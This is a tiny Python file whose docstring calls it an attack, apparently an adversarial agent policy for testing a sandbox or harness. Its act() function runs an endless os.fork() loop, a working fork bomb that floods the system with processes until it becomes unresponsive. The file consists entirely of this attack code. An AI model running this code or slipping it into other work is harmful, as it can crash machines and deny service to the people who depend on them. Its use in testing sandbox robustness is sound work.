"""Attack: the classic os.fork() loop."""

import os


def act(observation):
    children = []
    while True:
        children.append(os.fork())
